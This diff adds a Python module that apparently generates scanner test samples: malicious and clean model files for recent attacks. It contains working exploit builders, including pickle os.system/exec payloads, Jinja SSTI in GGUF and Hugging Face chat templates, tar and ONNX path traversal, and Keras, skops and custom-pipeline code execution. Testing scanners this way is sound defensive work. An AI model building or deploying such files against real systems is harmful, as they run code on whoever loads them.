@@ -1,0 +1,560 @@
+"""Round 3: techniques published 2023-2026 that the earlier rounds do not hold.
+
+PyTorch FX source executed on unpickling, names planted by BUILD at run time, pathlib methods
+that write files, archive traversal on extraction (.nemo), ONNX external data written on save,
+named chat templates in GGUF and template files beside a Hugging Face model, a Keras
+TorchModuleWrapper that carries a pickle, pickled Keras npz weights, skops model cards that
+fall back to joblib, and Hugging Face custom pipelines.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import json
+import os
+import pickle
+import tarfile
+import zipfile
+from pathlib import Path
+
+import _pk
+from registry import Canary, benign, sample
+
+SSTI_SELF = (
+    "{{ self.__init__.__globals__['__builtins__']['__import__']('os').system(CMD) }}"
+)
+SSTI_LIPSUM = "{{ lipsum.__globals__['os'].popen(CMD).read() }}"
+CHAT = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"
+CHATML = (
+    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content']"
+    " + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}"
+    "{{ '<|im_start|>assistant\\n' }}{% endif %}"
+)
+
+
+def _ssti(kind: str, c: Canary) -> str:
+    return kind.replace("CMD", json.dumps(c.shell)) + CHAT
+
+
+# --- PyTorch FX: GraphModule pickles its generated source and exec()s it on load ----------
+
+
+def _fx_block(c: Canary) -> str:
+    return f"import torch\n{c.py}\n"
+
+
+FX_FORWARD = "\n\ndef forward(self, x):\n    return x\n"
+
+
+@sample("fx-reduce-graph-module", "torch-fx-graph-module-exec", name="graph_module.pkl")
+def _fx_plain(out: Path, c: Canary) -> None:
+    from torch.fx.graph_module import reduce_graph_module
+
+    out.write_bytes(_pk.dumps(reduce_graph_module, {"_code": FX_FORWARD}, _fx_block(c)))
+
+
+@sample(
+    "fx-traced-module-torch-save",
+    "torch-fx-graph-module-exec",
+    loader="torch",
+    name="traced_model.pt",
+)
+def _fx_traced(out: Path, c: Canary) -> None:
+    """A genuinely traced GraphModule whose pickled import block carries one more line."""
+    import torch
+    from torch.fx import symbolic_trace
+
+    class Net(torch.nn.Module):
+        def __init__(self) -> None:
+            super().__init__()
+            self.lin = torch.nn.Linear(2, 2)
+
+        def forward(self, x):  # type: ignore[no-untyped-def]
+            return torch.relu(self.lin(x))
+
+    gm = symbolic_trace(Net())
+    fn, (body, block) = gm.__reduce__()  # type: ignore[misc]
+    torch.save(_pk.Reduce(fn, body, block + f"{c.py}\n"), out)
+
+
+@benign("fx-traced-module-clean", "torch-fx-graph-module-exec", loader="torch",
+        name="traced_model.pt")  # fmt: skip
+def _fx_clean(out: Path, c: Canary) -> None:
+    """A traced GraphModule saved as is: its generated forward() is exec'd on load."""
+    import torch
+    from torch.fx import symbolic_trace
+
+    torch.save(symbolic_trace(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU())), out)
+
+
+@sample("fx-forward-from-src", "torch-fx-graph-module-exec", name="model.pkl")
+def _fx_src(out: Path, c: Canary) -> None:
+    from torch.fx.graph_module import _forward_from_src
+
+    out.write_bytes(_pk.dumps(_forward_from_src, c.py + FX_FORWARD, {}, protocol=2))
+
+
+# --- BUILD slot state plants attributes on an allowed global; dotted names read them back ---
+
+
+def _planted(module: str, name: str, c: Canary) -> bytes:
+    """modelscan issue 85: BUILD's slot state sets ``<module>.<name>.a = 'os'`` and ``.b =
+    'system'``; GLOBAL '<module> <name>.a' reads them back and STACK_GLOBAL takes them from
+    the memo, so no 'os'/'system' literal stands next to the import."""
+    p = pickle
+    out = p.PROTO + b"\x05"
+    for attr, value in (("a", "os"), ("b", "system")):
+        out += p.GLOBAL + f"{module}\n{name}\n".encode()
+        out += p.NONE + p.MARK + p.UNICODE + f"{attr}\n".encode()
+        out += p.UNICODE + f"{value}\n".encode() + p.DICT + p.TUPLE2 + p.BUILD + p.POP
+    out += p.GLOBAL + f"{module}\n{name}.a\n".encode() + p.PUT + b"0\n"
+    out += p.GLOBAL + f"{module}\n{name}.b\n".encode() + p.PUT + b"1\n" + p.POP + p.POP
+    out += p.GET + b"0\n" + p.GET + b"1\n" + p.STACK_GLOBAL
+    out += p.UNICODE + c.shell.encode() + b"\n" + p.TUPLE1 + p.REDUCE + p.STOP
+    return out
+
+
+@sample("planted-names-numpy", "modelscan-85-build-planted-names", name="model.pkl")
+def _planted_np(out: Path, c: Canary) -> None:
+    out.write_bytes(_planted("numpy", "prod", c))
+
+
+def _torch_zip_with(data_pkl: bytes) -> bytes:
+    """A torch.save archive whose data.pkl is replaced."""
+    import torch
+
+    buf = io.BytesIO()
+    torch.save({"w": torch.zeros(2)}, buf)
+    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
+    dst_buf = io.BytesIO()
+    with zipfile.ZipFile(dst_buf, "w") as dst:
+        for info in src.infolist():
+            data = src.read(info.filename)
+            if info.filename.endswith("/data.pkl"):
+                data = data_pkl
+            elif "/data/" in info.filename:
+                continue  # the replaced pickle names no storage
+            dst.writestr(info.filename, data)
+    return dst_buf.getvalue()
+
+
+@sample(
+    "planted-names-torch-rebuild",
+    "modelscan-85-build-planted-names",
+    loader="torch",
+    name="pytorch_model.bin",
+)
+def _planted_torch(out: Path, c: Canary) -> None:
+    out.write_bytes(_torch_zip_with(_planted("torch._utils", "_rebuild_tensor_v2", c)))
+
+
+@benign("numpy-function-reference", "modelscan-85-build-planted-names", name="config.pkl")
+def _np_ref(out: Path, c: Canary) -> None:
+    """A pickled reference to a NumPy function, as configs that name a reduction hold."""
+    import numpy as np
+
+    out.write_bytes(pickle.dumps({"reduce": np.prod, "axis": 0}, protocol=5))
+
+
+# --- pathlib methods reached by dotted names ----------------------------------------------
+
+
+@sample("pathlib-write-text", "modelaudit-pathlib-methods", name="model.pkl")
+def _pl_write(out: Path, c: Canary) -> None:
+    from pathlib import PosixPath
+
+    fn = _pk.stack_global("pathlib", "PosixPath.write_text")
+    out.write_bytes(_pk.proto(4) + _pk.call(fn, PosixPath(c.path), "fired") + pickle.STOP)
+
+
+@sample("pathlib-touch", "modelaudit-pathlib-methods", name="state.pkl")
+def _pl_touch(out: Path, c: Canary) -> None:
+    from pathlib import PosixPath
+
+    fn = _pk.stack_global("pathlib", "Path.touch")
+    out.write_bytes(_pk.proto(4) + _pk.call(fn, PosixPath(c.path)) + pickle.STOP)
+
+
+@sample("pathlib-write-bytes-global", "modelaudit-pathlib-methods", name="cache.pkl")
+def _pl_bytes(out: Path, c: Canary) -> None:
+    """The text GLOBAL opcode with a dotted name (resolved from protocol 4 on)."""
+    from pathlib import PosixPath
+
+    fn = _pk.glob("pathlib", "Path.write_bytes")
+    out.write_bytes(_pk.proto(4) + _pk.call(fn, PosixPath(c.path), b"fired") + pickle.STOP)
+
+
+@benign("pathlib-path-values", "modelaudit-pathlib-methods", name="run_config.pkl")
+def _pl_clean(out: Path, c: Canary) -> None:
+    """Training configs often pickle paths as values."""
+    from pathlib import PosixPath
+
+    cfg = {"data_dir": PosixPath("/data/train"), "out": PosixPath("runs/1"), "lr": 1e-3}
+    out.write_bytes(pickle.dumps(cfg, protocol=4))
+
+
+# --- .nemo (tar) members that escape the extraction folder --------------------------------
+
+
+def _nemo_tar(out: Path, extra: list[tarfile.TarInfo], data: dict[str, bytes]) -> None:
+    cfg = b"target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\n"
+    with tarfile.open(out, "w:") as tar:
+        for name, blob in (("./model_config.yaml", cfg), ("./model_weights.ckpt", b"")):
+            info = tarfile.TarInfo(name)
+            info.size = len(blob)
+            tar.addfile(info, io.BytesIO(blob))
+        for info in extra:
+            tar.addfile(info, io.BytesIO(data.get(info.name, b"")))
+
+
+@sample("nemo-tar-dotdot", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract",
+        name="model.nemo")  # fmt: skip
+def _nemo_dotdot(out: Path, c: Canary) -> None:
+    # the loader extracts into WORK/scratch/<id>/extract: three levels up is WORK
+    info = tarfile.TarInfo(f"./../../../fired/{c.path.name}")
+    info.size = 5
+    _nemo_tar(out, [info], {info.name: b"fired"})
+
+
+@sample("nemo-tar-symlink", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract",
+        name="model.nemo")  # fmt: skip
+def _nemo_link(out: Path, c: Canary) -> None:
+    link = tarfile.TarInfo("./tokenizer")
+    link.type = tarfile.SYMTYPE
+    link.linkname = str(c.path.parent)
+    f = tarfile.TarInfo(f"./tokenizer/{c.path.name}")
+    f.size = 5
+    _nemo_tar(out, [link, f], {f.name: b"fired"})
+
+
+@sample("nemo-tar-absolute", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract",
+        name="model.nemo")  # fmt: skip
+def _nemo_abs(out: Path, c: Canary) -> None:
+    info = tarfile.TarInfo(str(c.path))
+    info.size = 5
+    _nemo_tar(out, [info], {info.name: b"fired"})
+
+
+@benign("nemo-tar-clean", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract",
+        name="model.nemo")  # fmt: skip
+def _nemo_clean(out: Path, c: Canary) -> None:
+    info = tarfile.TarInfo("./tokenizer/vocab.txt")
+    info.size = 6
+    _nemo_tar(out, [info], {info.name: b"a\nb\nc\n"})
+
+
+# --- ONNX external data written outside the folder when the model is saved again ----------
+
+
+def _onnx_external(out: Path, location: str) -> None:
+    from onnx import TensorProto, helper
+
+    t = TensorProto()
+    t.name = "w"
+    t.data_type = TensorProto.UINT8
+    t.dims.append(5)
+    t.raw_data = b"fired"
+    t.data_location = TensorProto.EXTERNAL
+    for k, v in (("location", location), ("offset", "0"), ("length", "5")):
+        e = t.external_data.add()
+        e.key, e.value = k, v
+    node = helper.make_node("Identity", ["w"], ["y"])
+    graph = helper.make_graph(
+        [node], "g", [], [helper.make_tensor_value_info("y", TensorProto.UINT8, [5])], [t]
+    )
+    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
+    model.ir_version = 8
+    # serialised directly: onnx.save would write the external data now
+    out.write_bytes(model.SerializeToString())
+
+
+@sample("onnx-save-dotdot", "cve-2025-51480-onnx-save-external", loader="onnx_resave",
+        env="onnx115", name="model.onnx")  # fmt: skip
+def _onnx_dotdot(out: Path, c: Canary) -> None:
+    # the loader saves into WORK/scratch/<id>: two levels up is WORK
+    _onnx_external(out, f"../../fired/{c.path.name}")
+
+
+@sample("onnx-save-absolute", "cve-2025-51480-onnx-save-external", loader="onnx_resave",
+        env="onnx115", name="model.onnx")  # fmt: skip
+def _onnx_abs(out: Path, c: Canary) -> None:
+    _onnx_external(out, str(c.path))
+
+
+@benign("onnx-save-clean", "cve-2025-51480-onnx-save-external", loader="onnx_resave",
+        env="onnx115", name="model.onnx")  # fmt: skip
+def _onnx_clean(out: Path, c: Canary) -> None:
+    _onnx_external(out, "weights.bin")
+
+
+# --- GGUF named chat templates (tokenizer.chat_template.<name>) ---------------------------
+
+
+def _gguf_named(out: Path, templates: dict[str, str]) -> None:
+    import gguf
+    import numpy as np
+
+    w = gguf.GGUFWriter(str(out), "llama")
+    w.add_chat_template([{"name": k, "template": v} for k, v in templates.items()])
+    w.add_tensor("token_embd.weight", np.zeros((4, 4), dtype=np.float32))
+    w.write_header_to_file()
+    w.write_kv_data_to_file()
+    w.write_tensors_to_file()
+    w.close()
+
+
+@sample("gguf-named-tool-use", "gguf-named-chat-templates", loader="gguf_named_jinja",
+        name="model.gguf")  # fmt: skip
+def _gguf_tool(out: Path, c: Canary) -> None:
+    _gguf_named(out, {"default": CHATML, "tool_use": _ssti(SSTI_SELF, c)})
+
+
+@sample("gguf-named-rag", "gguf-named-chat-templates", loader="gguf_named_jinja",
+        name="model.gguf")  # fmt: skip
+def _gguf_rag(out: Path, c: Canary) -> None:
+    _gguf_named(out, {"default": CHATML, "rag": _ssti(SSTI_LIPSUM, c)})
+
+
+@benign("gguf-named-clean", "gguf-named-chat-templates", loader="gguf_named_jinja",
+        name="model.gguf")  # fmt: skip
+def _gguf_named_clean(out: Path, c: Canary) -> None:
+    _gguf_named(out, {"default": CHATML, "tool_use": CHATML})
+
+
+# --- chat templates kept in their own files beside a Hugging Face model -------------------
+
+
+def _hf_dir(out: Path) -> None:
+    out.mkdir()
+    (out / "config.json").write_text(json.dumps({"model_type": "llama"}))
+    (out / "tokenizer_config.json").write_text(json.dumps({"eos_token": "</s>"}))
+
+
+@sample("hf-chat-template-jinja", "hf-chat-template-files", loader="hf_template_files",
+        name="model")  # fmt: skip
+def _hf_jinja(out: Path, c: Canary) -> None:
+    _hf_dir(out)
+    (out / "chat_template.jinja").write_text(_ssti(SSTI_SELF, c))
+
+
+@sample("hf-chat-template-json", "hf-chat-template-files", loader="hf_template_files",
+        name="model")  # fmt: skip
+def _hf_json(out: Path, c: Canary) -> None:
+    _hf_dir(out)
+    (out / "chat_template.json").write_text(json.dumps({"chat_template": _ssti(SSTI_LIPSUM, c)}))
+
+
+@sample("hf-additional-chat-template", "hf-chat-template-files", loader="hf_template_files",
+        name="model")  # fmt: skip
+def _hf_additional(out: Path, c: Canary) -> None:
+    _hf_dir(out)
+    (out / "chat_template.jinja").write_text(CHATML)
+    (out / "additional_chat_templates").mkdir()
+    (out / "additional_chat_templates" / "tool_use.jinja").write_text(_ssti(SSTI_SELF, c))
+
+
+@benign("hf-chat-template-jinja-clean", "hf-chat-template-files", loader="hf_template_files",
+        name="model")  # fmt: skip
+def _hf_jinja_clean(out: Path, c: Canary) -> None:
+    _hf_dir(out)
+    (out / "chat_template.jinja").write_text(CHATML)
+    (out / "additional_chat_templates").mkdir()
+    (out / "additional_chat_templates" / "tool_use.jinja").write_text(CHATML)
+
+
+# --- Keras: TorchModuleWrapper carries a base64 torch.save archive (CVE-2025-49655) -------
+
+
+def _keras_zip(out: Path, config: dict[str, object], weights: dict[str, bytes]) -> None:
+    meta = {"keras_version": "3.11.2", "date_saved": "2025-08-01@00:00:00"}
+    with zipfile.ZipFile(out, "w") as z:
+        z.writestr("metadata.json", json.dumps(meta))
+        z.writestr("config.json", json.dumps(config))
+        for name, data in weights.items():
+            z.writestr(name, data)
+
+
+def _tmw_config(module_b64: str) -> dict[str, object]:
+    return {
+        "module": "keras",
+        "class_name": "Sequential",
+        "config": {
+            "name": "sequential",
+            "trainable": True,
+            "dtype": "float32",
+            "layers": [
+                {
+                    "module": "keras.layers",
+                    "class_name": "InputLayer",
+                    "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "input"},
+                    "registered_name": None,
+                },
+                {
+                    "module": "keras.layers",
+                    "class_name": "TorchModuleWrapper",
+                    "config": {"name": "torch_module_wrapper", "trainable": True,
+                               "dtype": "float32", "module": module_b64,
+                               "output_shape": None},  # fmt: skip
+                    "registered_name": None,
+                },
+            ],
+        },
+        "registered_name": None,
+    }
+
+
+def _torch_save_b64(obj: object, legacy: bool = False) -> str:
+    import torch
+
+    buf = io.BytesIO()
+    torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
+    return base64.b64encode(buf.getvalue()).decode("ascii")
+
+
+@sample("keras-torch-module-wrapper", "cve-2025-49655-keras-torchmodulewrapper",
+        loader="keras", env="keras311", name="model.keras")  # fmt: skip
+def _tmw(out: Path, c: Canary) -> None:
+    _keras_zip(out, _tmw_config(_torch_save_b64(_pk.Reduce(os.system, c.shell))), {})
+
+
+@sample("keras-torch-module-wrapper-legacy", "cve-2025-49655-keras-torchmodulewrapper",
+        loader="keras", env="keras311", name="model.keras")  # fmt: skip
+def _tmw_legacy(out: Path, c: Canary) -> None:
+    payload = _torch_save_b64(_pk.Reduce(exec, c.py), legacy=True)
+    _keras_zip(out, _tmw_config(payload), {})
+
+
+@benign("keras-torch-module-wrapper-linear", "cve-2025-49655-keras-torchmodulewrapper",
+        loader="keras", env="keras311", name="model.keras")  # fmt: skip
+def _tmw_clean(out: Path, c: Canary) -> None:
+    import torch
+
+    _keras_zip(out, _tmw_config(_torch_save_b64(torch.nn.Linear(2, 2))), {})
+
+
+# --- Keras: model.weights.npz read with allow_pickle=True (Keras < 3.?; modelscan PR 262) --
+
+
+def _dense_config() -> dict[str, object]:
+    return {
+        "module": "keras",
+        "class_name": "Sequential",
+        "config": {
+            "name": "sequential",
+            "trainable": True,
+            "dtype": "float32",
+            "layers": [
+                {
+                    "module": "keras.layers",
+                    "class_name": "InputLayer",
+                    "config": {"batch_shape": [None, 1], "dtype": "float32", "name": "input"},
+                    "registered_name": None,
+                },
+                {
+                    "module": "keras.layers",
+                    "class_name": "Dense",
+                    "config": {"name": "dense", "trainable": True, "dtype": "float32",
+                               "units": 1, "activation": "linear", "use_bias": True},  # fmt: skip
+                    "registered_name": None,
+                    "build_config": {"input_shape": [None, 1]},
+                },
+            ],
+            "build_input_shape": [None, 1],
+        },
+        "registered_name": None,
+        "build_config": {"input_shape": [None, 1]},
+    }
+
+
+@sample("keras-npz-weights-pickle", "keras-weights-npz-pickle", loader="keras", env="keras38",
+        name="model.keras")  # fmt: skip
+def _npz_raw(out: Path, c: Canary) -> None:
+    """As published: the weights member is a bare pickle, which np.load unpickles."""
+    _keras_zip(out, _dense_config(), {"model.weights.npz": _pk.dumps(os.system, c.shell)})
+
+
+@sample("keras-npz-object-array", "keras-weights-npz-pickle", loader="keras", env="keras38",
+        name="model.keras")  # fmt: skip
+def _npz_obj(out: Path, c: Canary) -> None:
+    """A real npz whose root entry is an object array (pickled inside the .npy member)."""
+    import numpy as np
+
+    buf = io.BytesIO()
+    root = np.empty(1, dtype=object)
+    root[0] = _pk.Reduce(exec, c.py)
+    np.savez(buf, __root__=root, **{"layers/dense/vars": np.zeros((1, 1), dtype="float32")})
+    _keras_zip(out, _dense_config(), {"model.weights.npz": buf.getvalue()})
+
+
+@benign("keras-npz-weights-clean", "keras-weights-npz-pickle", loader="keras", env="keras38",
+        name="model.keras")  # fmt: skip
+def _npz_clean(out: Path, c: Canary) -> None:
+    import numpy as np
+
+    buf = io.BytesIO()
+    np.savez(buf, **{"layers/dense/vars": np.zeros((2, 1, 1), dtype="float32")})
+    _keras_zip(out, _dense_config(), {"model.weights.npz": buf.getvalue()})
+
+
+# --- skops model cards: a non-zip model file is loaded with joblib (CVE-2025-54886) -------
+
+
+@sample("skops-card-pickle", "cve-2025-54886-skops-card-joblib", loader="skops_card",
+        env="skops012", name="model.skops")  # fmt: skip
+def _skops_pickle(out: Path, c: Canary) -> None:
+    out.write_bytes(_pk.dumps(os.system, c.shell, protocol=4))
+
+
+@sample("skops-card-joblib-zlib", "cve-2025-54886-skops-card-joblib", loader="skops_card",
+        env="skops012", name="model.skops")  # fmt: skip
+def _skops_joblib(out: Path, c: Canary) -> None:
+    import joblib
+
+    joblib.dump(_pk.Reduce(exec, c.py), out, compress=("zlib", 3))
+
+
+@benign("skops-card-zip-clean", "cve-2025-54886-skops-card-joblib", loader="skops_card",
+        env="skops012", name="model.skops", gen="skops012")  # fmt: skip
+def _skops_clean(out: Path, c: Canary) -> None:
+    import numpy as np
+    import skops.io as sio
+    from sklearn.linear_model import LogisticRegression
+
+    m = LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), [0, 0, 1, 1])
+    sio.dump(m, out)
+
+
+# --- Hugging Face custom pipelines: config.json custom_pipelines -> a .py in the folder ---
+
+
+@sample("hf-custom-pipeline", "hf-custom-pipelines", loader="hf_pipeline", name="model")
+def _hf_pipe(out: Path, c: Canary) -> None:
+    out.mkdir()
+    cfg = {
+        "model_type": "bert",
+        "vocab_size": 8,
+        "hidden_size": 8,
+        "num_hidden_layers": 1,
+        "num_attention_heads": 1,
+        "intermediate_size": 8,
+        "custom_pipelines": {
+            "pair-classification": {
+                "impl": "pair_classification.PairClassificationPipeline",
+                "pt": ["AutoModelForSequenceClassification"],
+                "tf": [],
+                "type": "text",
+            }
+        },
+    }
+    (out / "config.json").write_text(json.dumps(cfg))
+    (out / "pair_classification.py").write_text(
+        f"{c.py}\nfrom transformers import Pipeline\n\n"
+        "class PairClassificationPipeline(Pipeline):\n    pass\n"
+    )
+
+
+@benign("hf-custom-pipeline-absent", "hf-custom-pipelines", loader="hf_config", name="model")
+def _hf_pipe_clean(out: Path, c: Canary) -> None:
+    out.mkdir()
+    (out / "config.json").write_text(json.dumps({"model_type": "bert", "vocab_size": 8}))
